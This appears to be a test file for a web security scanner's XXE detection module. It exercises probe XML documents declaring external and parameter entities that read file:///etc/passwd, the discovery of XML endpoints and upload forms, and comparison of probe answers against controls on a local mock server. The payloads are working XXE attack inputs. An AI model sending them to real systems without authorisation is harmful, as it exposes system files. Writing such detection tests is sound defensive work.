import http from 'node:http';
import type { AddressInfo } from 'node:net';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { HttpClient } from '../core/http-client.ts';
import type { HttpResponse } from '../core/http-client.ts';
import { TargetPolicy } from '../target-policy.ts';
import type { ApiCall } from './browser/api-calls.ts';
import type { Page } from './crawl.ts';
import { parseHtml } from './html.ts';
import {
  documentBody,
  judgeXxe,
  multipartBody,
  sampleXml,
  uploadPlaces,
  xmlPlaces,
  xxeDocuments,
  xxeFindings,
  xxeLimits,
} from './xxe.ts';

const origin = 'http://shop.test';
const answer = (body: string, contentType = 'text/html', status = 200, path = '/'): HttpResponse => ({
  url: new URL(path, origin).href,
  status,
  headers: { 'content-type': contentType },
  body,
  redirects: [],
});
const pageOf = (path: string, body: string, contentType = 'text/html'): Page => {
  const url = new URL(path, origin);
  return {
    url,
    response: answer(body, contentType, 200, path),
    facts: contentType === 'text/html' ? parseHtml(body, url) : null,
    depth: 1,
  };
};
const callOf = (
  method: string,
  path: string,
  body: string | null,
  type: string,
  reply: HttpResponse,
): ApiCall => ({
  method,
  url: new URL(path, origin),
  headers: { 'content-type': type },
  body,
  bodyShape: { type: 'other', fields: [] },
  response: reply,
  phase: 'anonymous',
});

const passwd = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n';

describe('XXE probe documents', () => {
  it('declare one entity, read only /etc/passwd, fetch nothing over the network and nest nothing', () => {
    const documents = xxeDocuments(undefined, 'abc123');
    expect(documents.map((d) => d.variant)).toEqual(['external entity', 'parameter entity']);
    for (const { probe, control } of documents) {
      expect(probe.match(/<!ENTITY/g)).toHaveLength(1);
      expect(probe).toContain('SYSTEM "file:///etc/passwd"');
      expect(probe).not.toMatch(/https?:|ftp:|php:|expect:|jar:|&[a-z]+;[^<]*&[a-z]+;.*<!ENTITY/i);
      expect(control).not.toMatch(/SYSTEM|PUBLIC|file:/);
      // The control is the probe with the entity's source alone changed: same elements.
      expect(control.split('\n')[2]).toBe(probe.split('\n')[2]);
    }
    const [general, parameter] = documents;
    expect(general!.probe).toMatch(/<!DOCTYPE vigil \[<!ENTITY vigil SYSTEM "file:\/\/\/etc\/passwd">\]>/);
    expect(general!.probe).toContain('<name>&vigil;</name>');
    expect(general!.control).toContain('<!ENTITY vigil "vigilabc123">');
    expect(parameter!.probe).toContain('<!ENTITY % vigil SYSTEM "file:///etc/passwd"> %vigil;');
    expect(parameter!.probe).not.toContain('&vigil;');
    expect(parameter!.control).toContain(`<!ENTITY % vigil "<!ENTITY vigilabc123 'vigilabc123'>"> %vigil;`);
  });

  it("keeps the app's own document, its leaf texts replaced, its prolog and DOCTYPE dropped", () => {
    const own =
      '<?xml version="1.0"?>\n<!DOCTYPE order SYSTEM "order.dtd">\n<order id="7"><item><sku>A-1</sku><qty>2</qty></item><note/></order>';
    expect(documentBody(own, '&vigil;')).toEqual({
      root: 'order',
      body: '<order id="7"><item><sku>&vigil;</sku><qty>&vigil;</qty></item><note/></order>',
    });
    const soap =
      '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="urn:x"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>';
    const body = documentBody(soap, '&vigil;');
    expect(body.root).toBe('soap:Envelope');
    expect(body.body).toContain('<m:Item>&vigil;</m:Item>');
    // A document without text gets the reference in its root element.
    expect(documentBody('<ping a="1"><x/></ping>', '&vigil;').body).toBe('<ping a="1"><x/>&vigil;</ping>');
  });

  it('bounds the references in a large document and falls back to the generic one past the size cap', () => {
    const many = `<list>${Array.from({ length: 50 }, (_, i) => `<v>${i}</v>`).join('')}</list>`;
    expect(documentBody(many, '&vigil;').body.match(/&vigil;/g)).toHaveLength(xxeLimits.maxLeaves);
    const huge = `<list><v>${'x'.repeat(xxeLimits.maxTemplate)}</v></list>`;
    expect(documentBody(huge, '&vigil;').root).toBe('vigil');
    expect(documentBody('not xml at all', '&vigil;').root).toBe('vigil');
  });
});

describe('judging an XXE answer', () => {
  it('reports the first root line alone when the probe shows it and the control does not', () => {
    expect(judgeXxe(answer(`<p>Saved: ${passwd}</p>`), answer('<p>Saved: vigilabc</p>'))).toBe(
      'root:x:0:0:root:/root:/bin/bash',
    );
    // In JSON, the newline is escaped: the line still ends at the shell.
    expect(
      judgeXxe(answer(JSON.stringify({ name: passwd }), 'application/json'), answer('{"name":"x"}')),
    ).toBe('root:x:0:0:root:/root:/bin/bash');
    // PHP's json_encode writes "/" as "\/".
    expect(
      judgeXxe(answer('{"imported":"root:x:0:0:root:\\/root:\\/bin\\/bash\\ndaemon"}'), answer('{}')),
    ).toBe('root:x:0:0:root:/root:/bin/bash');
    // PHP's parse warning, as display_errors prints it.
    expect(
      judgeXxe(
        answer(
          '<b>Warning</b>:  simplexml_load_string(): root:x:0:0:root:/root:/bin/bash in <b>/srv/import.php</b>',
        ),
        answer('imported 1'),
      ),
    ).toBe('root:x:0:0:root:/root:/bin/bash');
  });

  it('reports nothing when the control shows passwd too, without a control, or without a passwd line', () => {
    const always = `<pre>${passwd}</pre>`;
    expect(judgeXxe(answer(always), answer(always))).toBeNull();
    expect(judgeXxe(answer(always), null)).toBeNull();
    expect(judgeXxe(null, answer('x'))).toBeNull();
    expect(judgeXxe(answer('the entity file:///etc/passwd was refused'), answer('ok'))).toBeNull();
    expect(judgeXxe(answer('rooting:x:0:0'), answer('ok'))).toBeNull();
  });
});

describe('places that take XML', () => {
  it("puts the app's own XML POSTs first, then XML answers, same origin, each path once", () => {
    const pages = [
      pageOf('/', '<a href="/feed">feed</a>'),
      pageOf('/feed', '<?xml version="1.0"?><rss><channel/></rss>', 'application/rss+xml'),
      pageOf('/plain', 'hello', 'text/plain'),
      pageOf('/logo', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'image/svg+xml'),
      pageOf('/ws', '<s:Envelope/>', 'application/soap+xml; charset=utf-8'),
      pageOf('/page', '<html><body>x</body></html>', 'application/xhtml+xml'),
    ];
    const calls = [
      callOf('GET', '/api/orders', null, '', answer('<orders/>', 'application/xml')),
      callOf(
        'POST',
        '/api/orders',
        '<order><sku>A</sku></order>',
        'text/xml; charset=utf-8',
        answer('ok', 'text/plain'),
      ),
      callOf('POST', '/api/json', '{"a":1}', 'application/json', answer('{}', 'application/json')),
      callOf('PUT', '/api/put', '<a>1</a>', 'application/xml', answer('ok', 'text/plain')),
      callOf(
        'POST',
        'http://other.test/soap',
        '<a>1</a>',
        'application/soap+xml',
        answer('<a/>', 'application/xml'),
      ),
    ];
    const places = xmlPlaces(new URL(origin), pages, calls);
    expect(places.map((p) => [p.url.pathname, p.contentType, p.template ?? null])).toEqual([
      ['/api/orders', 'text/xml; charset=utf-8', '<order><sku>A</sku></order>'],
      ['/feed', 'application/xml', null],
      ['/ws', 'application/soap+xml', null],
    ]);
    expect(places[0]!.why).toBe('the app sends it XML (text/xml)');
    // A SOAP 1.1 call keeps its SOAPAction header.
    const soap = callOf(
      'POST',
      '/ws',
      '<s:Envelope xmlns:s="urn:s"><s:Body>1</s:Body></s:Envelope>',
      'text/xml',
      answer('<a/>', 'text/xml'),
    );
    soap.headers.soapaction = '"urn:GetPrice"';
    expect(xmlPlaces(new URL(origin), [], [soap])[0]).toMatchObject({ soapAction: '"urn:GetPrice"' });
  });

  it('tries ten places at most', () => {
    const pages = Array.from({ length: 30 }, (_, i) => pageOf(`/x${i}`, '<a/>', 'application/xml'));
    expect(xmlPlaces(new URL(origin), pages, [])).toHaveLength(xxeLimits.maxPlaces);
  });

  it('takes POST forms with a file field, never a login or another origin', () => {
    const page = pageOf(
      '/import',
      `<form method="post" action="/upload" enctype="multipart/form-data"><input type="hidden" name="csrf" value="t0k"><input name="title"><input type="file" name="catalog"><button>Send</button></form>
       <form method="post" action="/login"><input name="user"><input type="password" name="pw"><input type="file" name="x"></form>
       <form method="post" action="http://other.test/up" enctype="multipart/form-data"><input type="file" name="f"></form>
       <form method="get" action="/search"><input type="file" name="q"></form>
       <form method="post" action="/notes"><input name="text"></form>`,
    );
    const places = uploadPlaces(new URL(origin), [page]);
    expect(places.map((p) => [p.url.href, p.upload?.field])).toEqual([[`${origin}/upload`, 'catalog']]);
    const body = multipartBody(places[0]!.upload!, 'vigil-1.xml', '<a/>', 'B');
    expect(body).toBe(
      '--B\r\nContent-Disposition: form-data; name="csrf"\r\n\r\nt0k\r\n' +
        '--B\r\nContent-Disposition: form-data; name="title"\r\n\r\nvigil\r\n' +
        '--B\r\nContent-Disposition: form-data; name="catalog"; filename="vigil-1.xml"\r\nContent-Type: text/xml\r\n\r\n<a/>\r\n' +
        '--B--\r\n',
    );
  });
});

describe("an import page's sample XML", () => {
  const sample =
    '<products>\n  <product>\n    <name>Xbox One</name>\n    <code>23</code>\n' +
    '    <description>Microsoft’s flagship gaming console</description>\n  </product>\n</products>';

  it('is the template of its upload, from <xmp> as is or escaped in <pre>', () => {
    const form =
      '<form method="post" action="/app/bulkproducts" enctype="multipart/form-data"><input type="file" name="products"></form>';
    for (const shown of [
      `<h3>Sample XML</h3><pre><xmp>\n${sample}\n</xmp></pre>`,
      `<pre><code>${sample.replace(/</g, '&lt;').replace(/>/g, '&gt;')}</code></pre>`,
    ]) {
      const [place] = uploadPlaces(new URL(origin), [pageOf('/app/bulkproducts', form + shown)]);
      expect(place?.template).toBe(sample);
      expect(place?.why).toContain('in the form of the sample XML the page shows');
      // The import stores its records: the entity goes in the long text only, and the short fields (a
      // 255-character column, a unique code) get values of their own, different in probe and control.
      const [external, parameter] = xxeDocuments(place?.template, 't', true);
      expect(external!.probe).toContain(
        '<name>vigiltp0</name>\n    <code>vigiltp1</code>\n    <description>&vigil;</description>',
      );
      expect(external!.control).toContain('<name>vigiltc0</name>\n    <code>vigiltc1</code>');
      expect(parameter!.probe).toContain('<code>vigiltq1</code>\n    <description>vigilt</description>');
      // Sent as a body (an API's own document, not stored), every leaf gets it.
      expect(xxeDocuments(place?.template, 't')[0]!.probe).toContain(
        '<name>&vigil;</name>\n    <code>&vigil;</code>\n    <description>&vigil;</description>',
      );
    }
  });

  it('is none when the page shows no whole document', () => {
    expect(
      sampleXml('<pre>npm install</pre><code>&lt;products&gt;</code><xmp><a>1</b></xmp>'),
    ).toBeUndefined();
    expect(sampleXml(`<xmp><big>${'x'.repeat(9000)}</big></xmp>`)).toBeUndefined();
    // A hostile page: openings that never end, and tags that never close, read in one pass.
    expect(sampleXml('<pre>&lt;'.repeat(20_000) + '<xmp><a>1</a></xmp>')).toBe('<a>1</a>');
    expect(sampleXml('<code'.repeat(40_000))).toBeUndefined();
  });
});

describe('upload paths the scripts name', () => {
  it("takes up to three, in the field a page's file input names, after the forms", () => {
    const script = {
      url: new URL('/main.js', origin),
      body: 'u=new FileUploader({url:h+"/file-upload"});a="/api/users";b="/api/import";c="/uploads/";d="/v2/upload";e="/login/upload";f="/upload"',
    };
    const page = pageOf('/complain', '<div><input type="file" name="complaint" accept=".xml"></div>');
    const form = pageOf(
      '/',
      '<form method="post" action="/upload" enctype="multipart/form-data"><input type="file" name="doc"></form>',
    );
    const places = uploadPlaces(new URL(origin), [form, page], [script]);
    expect(places.map((p) => [p.url.pathname, p.upload?.field, p.why])).toEqual([
      ['/upload', 'doc', `its form on ${origin}/ uploads a file in "doc"`],
      ['/file-upload', 'doc', 'a script of the site names it as an upload path'],
      ['/api/import', 'doc', 'a script of the site names it as an upload path'],
      ['/uploads/', 'doc', 'a script of the site names it as an upload path'],
    ]);
    // Without a file input on any page, the field is called "file"; another origin's script is not read.
    const other = { url: new URL('http://cdn.test/x.js'), body: '"/upload-here"' };
    expect(
      uploadPlaces(new URL(origin), [page].slice(1), [script, other]).map((p) => p.upload?.field),
    ).toEqual(['file', 'file', 'file']);
  });
});

describe('probing a place', () => {
  let server: http.Server;
  let base = '';
  const seen: string[] = [];
  const stored: string[] = [];
  const soapActions: (string | string[])[] = [];
  beforeAll(async () => {
    server = http.createServer((req, res) => {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        seen.push(`${req.url} ${body}`);
        soapActions.push(req.headers.soapaction ?? '');
        res.setHeader('content-type', 'text/plain');
        // A help page that always quotes passwd, and an endpoint that shows passwd only when sent the
        // parameter-entity probe (as a parser that reports its errors would).
        if (req.url === '/import' && req.method === 'POST') {
          // An import that keeps what it parsed and shows the list after a redirect (as DVNA's does).
          stored.push(body.includes('<!ENTITY vigil SYSTEM') ? 'root:x:0:0:root:/root:/bin/bash' : 'vigil');
          res.writeHead(303, { location: '/list' }).end();
        } else if (req.url === '/list') {
          res.end(stored.join('\n'));
        } else if (req.url === '/always') {
          res.end(`example:\n${passwd}`);
        } else if (body.includes('<!ENTITY % vigil SYSTEM')) {
          res.statusCode = 500;
          res.end('parser error : Content error in the external subset\nroot:x:0:0:root:/root:/bin/bash\n^');
        } else {
          res.end('imported');
        }
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('sends at most two probes and their controls a place, and quotes the one line it proves', async () => {
    const client = new HttpClient({ policy: new TargetPolicy('local'), timeoutMs: 5000 });
    try {
      const places = ['/always', '/parse'].map((path) => ({
        url: new URL(path, base),
        why: 'it answers XML (application/xml)',
        contentType: 'application/xml',
        ...(path === '/parse' ? { soapAction: '"urn:Import"' } : {}),
      }));
      const findings = await xxeFindings(client, places, () => undefined);
      expect(findings).toHaveLength(1);
      expect(findings[0]).toMatchObject({
        rule_id: 'web.xxe',
        location: `POST ${base}/parse`,
        cwe: 'CWE-611',
      });
      expect(findings[0]!.evidence).toMatch(
        /^POST .*\/parse \(it answers XML \(application\/xml\)\) with an XML body \(Content-Type application\/xml\): the parameter entity declared as file:\/\/\/etc\/passwd brought "root:x:0:0:root:\/root:\/bin\/bash" into the answer \(HTTP 500\)/,
      );
      expect(findings[0]!.evidence).not.toContain('daemon');
      expect(seen.filter((s) => s.startsWith('/always '))).toHaveLength(4);
      expect(seen.filter((s) => s.startsWith('/parse '))).toHaveLength(4);
      expect(client.requests).toBe(8);
      // The place's SOAPAction goes with each of its requests, and only with them.
      expect(seen.map((s, i) => `${s.split(' ')[0]} ${String(soapActions[i])}`).sort()).toEqual([
        ...Array<string>(4).fill('/always '),
        ...Array<string>(4).fill('/parse "urn:Import"'),
      ]);
    } finally {
      client.close();
    }
  });

  it('follows a same-origin redirect once, the control sent first so that what the app keeps cannot pass for proof', async () => {
    const client = new HttpClient({ policy: new TargetPolicy('local'), timeoutMs: 5000 });
    try {
      seen.length = 0;
      const place = { url: new URL('/import', base), why: 'a test', contentType: 'application/xml' };
      const [finding] = await xxeFindings(client, [place], () => undefined);
      expect(finding?.evidence).toMatch(
        new RegExp(
          `external entity .*"root:x:0:0:root:/root:/bin/bash" into the answer \\(HTTP 200 at ${base}/list\\)`,
        ),
      );
      expect(seen.map((s) => s.slice(0, 12).trim())).toEqual([
        '/import <?xm',
        '/list',
        '/import <?xm',
        '/list',
      ]);
      expect(seen[0]).toContain('<!ENTITY vigil "vigil');
      expect(seen[2]).toContain('<!ENTITY vigil SYSTEM');
      // A second scan finds the passwd line the first one left in the list: the control shows it, silence.
      expect(await xxeFindings(client, [place], () => undefined)).toEqual([]);
    } finally {
      client.close();
    }
  });
});

describe('broken templates', () => {
  it('fall back to the generic document: text never closed, an unterminated prolog or DOCTYPE', () => {
    for (const broken of [
      `<a>${' x'.repeat(3999)}`,
      `<?xml ${'<?'.repeat(3990)}`,
      `<!DOCTYPE a [${'['.repeat(7980)}`,
    ]) {
      expect(documentBody(broken, '&vigil;').root).toBe('vigil');
    }
  });
});
